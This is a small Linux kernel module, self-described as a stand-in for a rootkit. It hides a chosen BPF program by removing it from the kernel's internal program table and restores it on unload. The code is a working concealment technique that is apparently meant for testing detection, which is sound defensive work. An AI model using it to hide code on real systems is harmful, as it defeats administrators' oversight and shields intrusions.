// SPDX-License-Identifier: GPL-2.0
/* unlist: takes a BPF program out of the table of programs, by its number, and nothing more. Unloading puts it back. */
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include "lookup.h"

static int id;
module_param(id, int, 0444);

static struct idr *programs;
static void *program;

static int __init unlist_start(void)
{
	programs = (struct idr *)lookup("prog_idr");
	if (!programs)
		return -ENOENT;
	program = idr_remove(programs, id);
	return program ? 0 : -ESRCH;
}

static void __exit unlist_end(void)
{
	if (idr_alloc(programs, program, id, id + 1, GFP_KERNEL) != id)
		pr_err("unlist: %d is taken\n", id);
}

module_init(unlist_start);
module_exit(unlist_end);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Stand-in for a rootkit that hides a BPF program");
